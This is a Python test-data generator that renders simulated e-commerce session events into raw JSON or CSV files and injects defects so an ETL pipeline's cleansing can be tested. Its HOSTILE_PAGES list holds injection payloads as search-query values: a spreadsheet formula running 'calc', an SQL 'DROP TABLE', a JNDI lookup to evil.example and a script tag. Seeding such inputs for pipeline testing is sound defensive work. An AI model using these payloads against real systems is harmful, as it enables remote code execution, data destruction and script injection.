"""One raw file: its sessions' events as JSON lines or CSV rows, plus the injected defects.

Two families of defects:

- *corruptions* change a real event as it is rendered (missing ids, bad timestamps, casing
  noise, hostile text). They are drawn from the session's own RNG, so any file can render any
  session again and get the same bytes.
- *inserts* are extra records added to the file: exact duplicates (of a record in the same
  file, in another file of the same day, or re-sent from the previous day's drop), malformed
  lines, unknown event types and purchases with a missing or negative amount. The day plan
  fixes how many of each kind a file gets; the file's RNG picks the details.

Real events are never dropped or invalidated by an insert, and purchases are never
invalidated, so the buying signal the world plants reaches the lake intact.
"""

from __future__ import annotations

import gzip
import json
from bisect import bisect_right
from dataclasses import dataclass, field
from datetime import date
from math import log
from operator import itemgetter
from random import Random
from typing import Any, Final

from eventlake.contracts.schemas import RAW_FIELDS
from eventlake.tools.datagen.world import (
    BROWSE,
    CART,
    CATEGORIES,
    CHECKOUT,
    DAY_MS,
    EPOCH_MS,
    EPOCH_ORDINAL,
    EPOCH_S,
    HOUR_MS,
    HV_PURCHASE,
    ISO_SPACE_OFFSET,
    ISO_T_OFFSET_MS,
    ISO_Z,
    ISO_Z_MS,
    NAIVE_SPACE,
    PURCHASE,
    RESEARCH,
    DayPlan,
    Session,
    User,
    World,
    cumulative,
    derive_seed,
    pick,
)

# Share of the defect budget per kind. Corruptions alter real events; inserts add records.
CORRUPTIONS: dict[str, float] = {
    "noise": 0.17,
    "hostile_text": 0.04,
    "missing_event_id": 0.07,
    "missing_user_id": 0.11,
    "unparseable_time": 0.06,
    "ancient_time": 0.05,
    "future_time": 0.05,
}
INSERTS: dict[str, float] = {
    "duplicate_same_file": 0.08,
    "duplicate_other_file": 0.05,
    "duplicate_next_day": 0.05,
    "malformed": 0.12,
    "unknown_event_type": 0.08,
    "missing_amount": 0.035,
    "negative_amount": 0.035,
}
DEFECT_KINDS: tuple[str, ...] = (*CORRUPTIONS, *INSERTS)
# Kinds that leave the record valid: the ETL must accept these after cleansing.
VALID_KINDS = frozenset({"noise", "hostile_text"})
DUPLICATE_KINDS = frozenset({"duplicate_same_file", "duplicate_other_file", "duplicate_next_day"})
INVALID_KINDS = frozenset(DEFECT_KINDS) - VALID_KINDS - DUPLICATE_KINDS

_CORRUPTION_NAMES = tuple(CORRUPTIONS)
_CORRUPTION_CUM = cumulative(list(CORRUPTIONS.values()))
CORRUPTION_SHARE = sum(CORRUPTIONS.values())
INSERT_SHARE = sum(INSERTS.values())

_FILLER = (("page_view", 0.40), ("click", 0.30), ("search", 0.17), ("add_to_cart", 0.08),
           ("remove_from_cart", 0.05))  # fmt: skip
_RESEARCH_FILLER = (("page_view", 0.25), ("click", 0.35), ("search", 0.30), ("add_to_cart", 0.1))
_FILLER_NAMES = tuple(n for n, _ in _FILLER)
_FILLER_CUM = cumulative([w for _, w in _FILLER])
_RESEARCH_NAMES = tuple(n for n, _ in _RESEARCH_FILLER)
_RESEARCH_CUM = cumulative([w for _, w in _RESEARCH_FILLER])
_TAILS: dict[int, tuple[str, ...]] = {
    BROWSE: (),
    CART: ("add_to_cart",),
    CHECKOUT: ("add_to_cart", "checkout"),
    PURCHASE: ("add_to_cart", "checkout", "purchase"),
    HV_PURCHASE: ("add_to_cart", "checkout", "purchase"),
    RESEARCH: ("search", "click", "add_to_cart"),
}
_COMMERCE = frozenset({"add_to_cart", "remove_from_cart", "checkout", "purchase"})
_ACCOUNT_PAGES = {"login": "/account/login", "logout": "/account/logout", "signup": "/signup"}

UNKNOWN_TYPES = ("hover", "scroll", "video_play", "app_heartbeat")
UNPARSEABLE_TIMES = ("not-a-timestamp", "2026-13-45T25:61:00Z", "31/12/2025 23:59", "yesterday",
                     "", "NaN", "1767225600abc", "2026-01-0T10:00:00Z")  # fmt: skip
HOSTILE_PAGES = (
    "/search?q==cmd|' /C calc'!A0",
    "/search?q='; DROP TABLE events;--",
    "/search?q=${jndi:ldap://evil.example/a}",
    '/search?q=red, "blue"\nshoes',
    "/search?q=<script>alert(1)</script>",
    "/search?q=caf\u00e9 cr\u00e8me, 50% off",
)
BLANK_USER_IDS: tuple[Any, ...] = (None, "", "   ", "null")


BIG_FILE_BYTES = 2_000_000


class Raw(str):
    """A value written without quotes in JSON (numbers)."""


ABSENT = object()  # a JSON key left out altogether


@dataclass
class FileResult:
    uri: str
    day: date
    index: int
    records: int = 0
    events: int = 0
    late_events: int = 0
    size: int = 0
    defects: dict[str, int] = field(default_factory=dict)
    # clean events left out or changed by a planted fault (datagen/plant.py)
    planted: int = 0


@dataclass(slots=True)
class SessionContext:
    """What all events of one session share."""

    session: Session
    user: User
    session_id: str
    ip: str
    time_format: int


# An event: (key, t, event_type, amount, product, category, page, event_id, defect, variant,
# context). A plain tuple: millions are made, and a tuple is the cheapest record in Python.
Event = tuple[int, int, str, "str | None", int, int, str, str, int, float, SessionContext]
KEY: Final = 0
T: Final = 1
ETYPE: Final = 2
AMOUNT: Final = 3
PRODUCT: Final = 4
CATEGORY: Final = 5
PAGE: Final = 6
EVENT_ID: Final = 7
DEFECT: Final = 8
VARIANT: Final = 9
CONTEXT: Final = 10

_DATES: dict[int, str] = {}
_HMS: list[str] = []
_MS = [f".{ms:03d}" for ms in range(1000)]


def _date_text(days: int) -> str:
    text = _DATES.get(days)
    if text is None:
        text = _DATES[days] = date.fromordinal(days + EPOCH_ORDINAL).isoformat()
    return text


def _iso(t: int, sep: str, fraction: bool) -> str:
    if not _HMS:  # built on first use, not at import: 86400 "HH:MM:SS" strings
        _HMS.extend(
            f"{h:02d}:{m:02d}:{s:02d}" for h in range(24) for m in range(60) for s in range(60)
        )
    secs, ms = divmod(t, 1000)
    days, rem = divmod(secs, 86400)
    base = _date_text(days) + sep + _HMS[rem]
    return base + _MS[ms] if fraction else base


def format_time(t: int, code: int, tz_minutes: int) -> tuple[str, bool]:
    """The event_time text for epoch-ms ``t`` in one of the accepted formats, and whether it
    is a number (unquoted in JSON)."""
    if code == EPOCH_MS:
        return str(t), True
    if code == ISO_Z_MS:
        return _iso(t, "T", True) + "Z", False
    if code == EPOCH_S:
        return str(t // 1000), True
    if code == ISO_Z:
        return _iso(t, "T", False) + "Z", False
    if code == NAIVE_SPACE:
        return _iso(t, " ", False), False
    if code in (ISO_SPACE_OFFSET, ISO_T_OFFSET_MS):
        sign = "+" if tz_minutes >= 0 else "-"
        hh, mm = divmod(abs(tz_minutes), 60)
        local = t + tz_minutes * 60_000
        if code == ISO_SPACE_OFFSET:
            return f"{_iso(local, ' ', False)}{sign}{hh:02d}:{mm:02d}", False
        return f"{_iso(local, 'T', True)}{sign}{hh:02d}:{mm:02d}", False
    return _iso(t, "T", True), False  # NAIVE_T_MS: no offset, which means UTC


_UUID_VARIANT = {c: "89ab"[int(c, 16) & 3] for c in "0123456789abcdef"}


def _uuid(bits: int) -> str:
    """A version-4 UUID string from 128 random bits."""
    h = f"{bits:032x}"
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{_UUID_VARIANT[h[16]]}{h[17:20]}-{h[20:]}"


class Renderer:
    """Expands sessions to events and renders records for one world and one format."""

    def __init__(self, world: World, fmt: str, corruption_rate: float, plants=()) -> None:
        self.world = world
        self.plants = tuple(plants)  # datagen.plant.Plant: faults planted in some days
        self.csv = fmt == "csv"
        self.corruption_rate = corruption_rate
        self.users = world.users
        self.products = world.products
        self._page = ["/p/" + p.product_id for p in world.products]
        if self.csv:
            self._pid = [p.product_id for p in world.products]
            self._cat = [c[0] for c in CATEGORIES]
        else:
            self._pid = [f'"{p.product_id}"' for p in world.products]
            self._cat = [f'"{c[0]}"' for c in CATEGORIES]
        self._user_cache: dict[int, tuple[str, str, str, str]] = {}

    # -- sessions -> events -------------------------------------------------------------

    def expand(self, s: Session) -> list[Event]:
        """The events of one session, a pure function of the session and the world."""
        r = Random(s.seed)
        rnd = r.random
        user = self.users[s.user]
        products = self.products
        world = self.world
        outcome = s.outcome
        if outcome in (HV_PURCHASE, RESEARCH):
            focus = user.mission_category
            pool = world.expensive[focus]
        else:
            focus = pick(user.category_cum, rnd())
            pool = world.cheap[focus]
        cheap = world.cheap[focus]
        tail = _TAILS[outcome]
        if outcome == RESEARCH and s.length > len(tail) + 1 and rnd() < 0.5:
            tail = (*tail, "checkout")  # got as far as the payment page, then left
        head: tuple[str, ...] = ()
        room = s.length - len(tail)
        if s.signup:
            head = ("signup",)
            room -= 1
        elif room > 1 and rnd() < 0.25:
            head = ("login",)
            room -= 1
        end: tuple[str, ...] = ()
        if room > 1 and rnd() < 0.12:
            end = ("logout",)
            room -= 1
        names, cum = (
            (_RESEARCH_NAMES, _RESEARCH_CUM)
            if outcome == RESEARCH
            else (_FILLER_NAMES, _FILLER_CUM)
        )
        filler = ["page_view"] if room > 0 else []
        filler += [names[bisect_right(cum, rnd())] for _ in range(room - 1)]
        types = (*head, *filler, *tail, *end)

        # Seconds to minutes between clicks; a session never spills into the next day.
        times = [s.start_ms]
        t = s.start_ms
        for _ in range(len(types) - 1):
            t += int(2000.0 - 30_000.0 * log(1.0 - rnd()))
            times.append(t)
        overflow = t - (s.day_start_ms + DAY_MS - 1)
        if overflow > 0:
            times = [t - overflow for t in times]
        ip = user.ip_prefix + str(
            user.ip_last if user.device == "desktop" else 1 + int(rnd() * 254)
        )
        ctx = SessionContext(
            s, user, f"s_{s.seed:016x}", ip, user.time_formats[pick(user.time_format_cum, rnd())]
        )
        rate = self.corruption_rate
        terms = CATEGORIES[focus][4]
        pages = self._page
        getrandbits = r.getrandbits
        late = s.late
        arrival = s.arrival_ms
        cart: list[int] = []
        events: list[Event] = []
        tail_start = len(types) - len(tail) - len(end)
        for i, etype in enumerate(types):
            product = -1
            category = -1
            amount = None
            if etype == "page_view":
                x = rnd()
                if x < 0.5:
                    product = pool[int(rnd() * len(pool))]
                    page = pages[product]
                elif x < 0.8:
                    category = focus
                    page = "/c/" + CATEGORIES[focus][0]
                else:
                    page = "/"
            elif etype == "click":
                product = pool[int(rnd() * len(pool))]
                page = pages[product]
            elif etype == "search":
                page = "/search?q=" + terms[int(rnd() * len(terms))]
            elif etype == "add_to_cart":
                source = pool if i >= tail_start else cheap
                product = source[int(rnd() * len(source))]
                cart.append(product)
                page = pages[product]
            elif etype == "remove_from_cart":
                # Filler comes before the tail, so this never removes the item bought later;
                # with an empty cart it removes something left over from an earlier visit.
                product = cart.pop() if cart else cheap[int(rnd() * len(cheap))]
                page = "/cart"
            elif etype == "checkout":
                page = "/checkout"
            elif etype == "purchase":
                if not cart:  # cannot happen with the tails above; keep purchases well-formed
                    cart.append(pool[0])
                product = cart[0]
                total = sum(products[p].price for p in cart)
                if rnd() < 0.1 * user.propensity:  # two of the main item
                    total += products[product].price
                amount = f"{total:.2f}"
                page = "/checkout/complete"
            else:
                page = _ACCOUNT_PAGES[etype]
            if product >= 0:
                category = products[product].category
            x = rnd()
            defect = -1
            variant = 0.0
            if x < rate:
                defect = bisect_right(_CORRUPTION_CUM, x / rate)
                if etype == "purchase" and _CORRUPTION_NAMES[defect] not in VALID_KINDS:
                    defect = 0  # "noise": purchases stay valid, the label depends on them
                variant = rnd()
            events.append(
                (
                    arrival + i if late else times[i],
                    times[i],
                    etype,
                    amount,
                    product,
                    category,
                    page,
                    _uuid(getrandbits(128)),
                    defect,
                    variant,
                    ctx,
                )
            )
        return events

    # -- events -> records --------------------------------------------------------------

    def _user_parts(self, user: User) -> tuple[str, str, str, str]:
        parts = self._user_cache.get(user.idx)
        if parts is None:
            if self.csv:
                mid = f"{user.device},{user.os},{user.country}"
                tail = f"{_csv(user.user_agent)},{user.app_version}"
                cur = user.currency
                none = ""
            else:
                mid = f'"device":"{user.device}","os":"{user.os}","country":"{user.country}"'
                tail = (
                    f'"user_agent":{json.dumps(user.user_agent)},"app_version":"{user.app_version}"'
                )
                cur = f'"{user.currency}"'
                none = "null"
            parts = self._user_cache[user.idx] = (mid, tail, cur, none)
        return parts

    def line(self, ev: Event) -> str:
        """The record text of a clean event (the fast path: every value is known to be safe)."""
        ctx = ev[CONTEXT]
        user = ctx.user
        mid, tail, cur, none = self._user_parts(user)
        text, numeric = format_time(ev[T], ctx.time_format, user.tz_minutes)
        etype = ev[ETYPE]
        product = ev[PRODUCT]
        category = ev[CATEGORY]
        pid = self._pid[product] if product >= 0 else none
        cat = self._cat[category] if category >= 0 else none
        if etype not in _COMMERCE:
            cur = none
        if self.csv:
            return (
                f"{ev[EVENT_ID]},{user.user_id},{ctx.session_id},{text},{etype},"
                f"{ev[AMOUNT] or ''},{cur},{mid},{ev[PAGE]},{pid},{cat},{ctx.ip},{tail}"
            )
        if not numeric:
            text = '"' + text + '"'
        return (
            f'{{"event_id":"{ev[EVENT_ID]}","user_id":"{user.user_id}",'
            f'"session_id":"{ctx.session_id}","event_time":{text},"event_type":"{etype}",'
            f'"amount":{ev[AMOUNT] or "null"},"currency":{cur},{mid},"page":"{ev[PAGE]}",'
            f'"product_id":{pid},"product_category":{cat},"ip":"{ctx.ip}",{tail}}}'
        )

    def fields(self, ev: Event) -> dict[str, Any]:
        """The record of an event as field values, for the slow path (defects)."""
        ctx = ev[CONTEXT]
        user = ctx.user
        text, numeric = format_time(ev[T], ctx.time_format, user.tz_minutes)
        amount = ev[AMOUNT]
        return {
            "event_id": ev[EVENT_ID],
            "user_id": user.user_id,
            "session_id": ctx.session_id,
            "event_time": Raw(text) if numeric else text,
            "event_type": ev[ETYPE],
            "amount": Raw(amount) if amount is not None else None,
            "currency": user.currency if ev[ETYPE] in _COMMERCE else None,
            "device": user.device,
            "os": user.os,
            "country": user.country,
            "page": ev[PAGE],
            "product_id": self.products[ev[PRODUCT]].product_id if ev[PRODUCT] >= 0 else None,
            "product_category": CATEGORIES[ev[CATEGORY]][0] if ev[CATEGORY] >= 0 else None,
            "ip": ctx.ip,
            "user_agent": user.user_agent,
            "app_version": user.app_version,
        }

    def render(self, values: dict[str, Any]) -> str:
        """Any record from field values (RAW_FIELDS order); see :class:`Raw` and ABSENT."""
        if self.csv:
            return ",".join(_csv(_text(values.get(name))) for name in RAW_FIELDS)
        parts = []
        for name in RAW_FIELDS:
            value = values.get(name, ABSENT)
            if value is ABSENT:
                continue
            if isinstance(value, Raw):
                parts.append(f'"{name}":{value}')
            else:
                parts.append(f'"{name}":{json.dumps(value)}')
        return "{" + ",".join(parts) + "}"

    def corrupted(self, ev: Event, drop_start_ms: int) -> tuple[str, str]:
        """The record of an event carrying a corruption, and the corruption's name."""
        kind = _CORRUPTION_NAMES[ev[DEFECT]]
        values = self.fields(ev)
        v = ev[VARIANT]
        if kind == "noise":
            _add_noise(values, v)
        elif kind == "hostile_text":
            values["page"] = HOSTILE_PAGES[int(v * len(HOSTILE_PAGES))]
        elif kind == "missing_event_id":
            values["event_id"] = (None, "", ABSENT)[int(v * 3)]
        elif kind == "missing_user_id":
            values["user_id"] = BLANK_USER_IDS[int(v * len(BLANK_USER_IDS))]
        elif kind == "unparseable_time":
            values["event_time"] = (None, *UNPARSEABLE_TIMES)[int(v * (len(UNPARSEABLE_TIMES) + 1))]
        elif kind == "ancient_time":
            values["event_time"] = (
                "1999-12-31T23:59:59Z",
                "1970-01-01T00:00:00Z",
                Raw("0"),
                Raw("946684799"),
                "1899-12-30 00:00:00",
            )[int(v * 5)]
        elif kind == "future_time":
            # Clearly past the 2-day tolerance: D + 3 days at the earliest.
            t = drop_start_ms + 3 * DAY_MS + int(v * 40 * DAY_MS)
            choice = int(v * 997) % 3
            values["event_time"] = (
                Raw(str(t)) if choice == 0 else "2099-01-01T00:00:00Z" if choice == 1 else
                _iso(t, "T", True) + "Z"
            )  # fmt: skip
        return self.render(values), kind


def _text(value: Any) -> str:
    if value is None or value is ABSENT:
        return ""
    return str(value)


def _csv(text: str) -> str:
    if any(c in text for c in ',"\n\r'):
        return '"' + text.replace('"', '""') + '"'
    return text


def _spacing(text: str, v: float) -> str:
    """Casing and whitespace noise that trimming and lower/upper-casing undo."""
    flavour = int(v * 6)
    if flavour == 0:
        return f" {text} "
    if flavour == 1:
        return text.upper()
    if flavour == 2:
        return text.title()
    if flavour == 3:
        return f" {text.title()} "
    if flavour == 4:
        return f"{text.lower()} " if text.isupper() else f"{text.upper()} "
    return f"  {text}"


def _add_noise(values: dict[str, Any], v: float) -> None:
    targets = ["event_type", "device", "country", "os"]
    if values.get("currency"):
        targets.append("currency")
    first = targets[int(v * len(targets))]
    values[first] = _spacing(values[first], v * 7 % 1)
    second = targets[int(v * 13 % 1 * len(targets))]
    if second != first and v < 0.5:
        values[second] = _spacing(values[second], v * 17 % 1)


def _malformed(rng: Random, renderer: Renderer, sample: Event | None) -> str:
    """A record that does not parse (JSON) or has the wrong column count (CSV)."""
    x = rng.random()
    if renderer.csv:
        cells = (
            [_csv(_text(val)) for val in renderer.fields(sample).values()]
            if sample
            else ["x"] * len(RAW_FIELDS)
        )
        if x < 0.5:
            del cells[1 + int(rng.random() * (len(cells) - 1))]
        else:
            cells.append("extra")
        return ",".join(cells)
    if sample is not None and x < 0.4:
        text = renderer.line(sample)
        return text[: 1 + int(rng.random() * (len(text) - 2))]
    if x < 0.55:
        return str(int(rng.random() * 1000))
    if x < 0.7:
        return f"[{int(rng.random() * 10)},{int(rng.random() * 10)}]"
    if x < 0.9:
        eid = _uuid(rng.getrandbits(128))
        return f'{{event_id: "{eid}", user_id: "u_{rng.getrandbits(32):08x}", event_type: "click"}}'
    return "{" if x < 0.95 else '{"event_id": "a'


def _pick(rng: Random, events: list[Event]) -> Event | None:
    return events[int(rng.random() * len(events))] if events else None


def _events_elsewhere(
    rng: Random, renderer: Renderer, plan: DayPlan, exclude_file: int | None
) -> Event | None:
    """A clean event of a session in another file (or another day), rendered again."""
    sessions = plan.sessions
    for _ in range(50):
        if not sessions:
            return None
        s = sessions[int(rng.random() * len(sessions))]
        if s.file == exclude_file:
            continue
        event = _pick(rng, [e for e in renderer.expand(s) if e[DEFECT] < 0])
        if event is not None:
            return event
    return None


def render_file(
    world: World, renderer: Renderer, d: int, index: int, uri: str
) -> tuple[bytes, FileResult]:
    """The gzip bytes of file ``index`` of day ``d``, and what is in it."""
    plan = world.day_plans[d]
    result = FileResult(uri=uri, day=plan.day, index=index)
    defects = dict.fromkeys(DEFECT_KINDS, 0)
    rows: list[tuple[int, str]] = []
    events: list[Event] = []
    plant = next((p for p in renderer.plants if p.day == plan.day), None)
    for session in plan.by_file[index]:
        for ev in renderer.expand(session):
            if plant is not None and ev[DEFECT] < 0 and ev[ETYPE] == plant.event_type:
                if plant.kind == "drop":
                    country = ev[CONTEXT].user.country
                    if (plant.country in (None, country)) and not plant.keeps(ev[EVENT_ID]):
                        result.planted += 1
                        continue
                elif (ev[T] // HOUR_MS) % 24 >= plant.from_hour:
                    values = renderer.fields(ev)
                    values[plant.field] = None
                    events.append(ev)
                    rows.append((ev[KEY], renderer.render(values)))
                    result.planted += 1
                    if session.late:
                        result.late_events += 1
                    continue
            events.append(ev)
            if ev[DEFECT] < 0:
                rows.append((ev[KEY], renderer.line(ev)))
            else:
                text, kind = renderer.corrupted(ev, plan.day_start_ms)
                defects[kind] += 1
                rows.append((ev[KEY], text))
            if session.late:
                result.late_events += 1
    result.events = len(events)
    clean = [e for e in events if e[DEFECT] < 0]

    rng = Random(derive_seed(world.seed, "file", plan.day.isoformat(), index))
    day_start = plan.day_start_ms
    for planned in plan.inserts[index]:
        kind = planned  # may fall back to a simpler kind when the file lacks material
        sample = _pick(rng, clean)
        key = day_start + int(rng.random() * DAY_MS)
        if kind == "duplicate_other_file":
            other = _events_elsewhere(rng, renderer, plan, index)
            if other is None:
                kind = "duplicate_same_file"
            else:
                rows.append((other[KEY] + int(rng.random() * 600_000), renderer.line(other)))
        elif kind == "duplicate_next_day":
            other = (
                _events_elsewhere(rng, renderer, world.day_plans[d - 1], None) if d > 0 else None
            )
            if other is None:
                kind = "duplicate_same_file"
            else:  # re-sent by a client retrying in the first hours of the next day
                rows.append((day_start + int(rng.random() * 3 * 3_600_000), renderer.line(other)))
        if kind == "duplicate_same_file":
            if sample is None:
                kind = "malformed"
            else:
                rows.append((sample[KEY] + 1 + int(rng.random() * 600_000), renderer.line(sample)))
        if kind in ("unknown_event_type", "missing_amount", "negative_amount"):
            if sample is None:
                kind = "malformed"
            else:
                values = renderer.fields(sample)
                values["event_id"] = _uuid(rng.getrandbits(128))
                if kind == "unknown_event_type":
                    values["event_type"] = UNKNOWN_TYPES[int(rng.random() * len(UNKNOWN_TYPES))]
                    values["amount"] = None
                else:
                    values["event_type"] = "purchase"
                    values["page"] = "/checkout/complete"
                    values["currency"] = sample[CONTEXT].user.currency
                    price = world.products[int(rng.random() * len(world.products))].price
                    if kind == "negative_amount":
                        values["amount"] = Raw(f"-{price:.2f}")
                    else:
                        values["amount"] = None if rng.random() < 0.5 else ABSENT
                rows.append((key, renderer.render(values)))
        if kind == "malformed":
            rows.append((key, _malformed(rng, renderer, sample)))
        defects[kind] += 1

    rows.sort(key=itemgetter(0))
    body = "\n".join(text for _, text in rows)
    if rows:
        body += "\n"
    if renderer.csv:
        body = ",".join(RAW_FIELDS) + "\n" + body
    raw = body.encode("utf-8")
    # mtime=0 and no file name: the header holds nothing that changes between runs. Big files
    # (benchmarks) trade ~30% size for ~3x faster compression; the level depends only on the
    # content, so the bytes stay reproducible.
    level = 6 if len(raw) < BIG_FILE_BYTES else 1
    data = gzip.compress(raw, compresslevel=level, mtime=0)
    result.records = len(rows)
    result.size = len(data)
    result.defects = defects
    return data, result
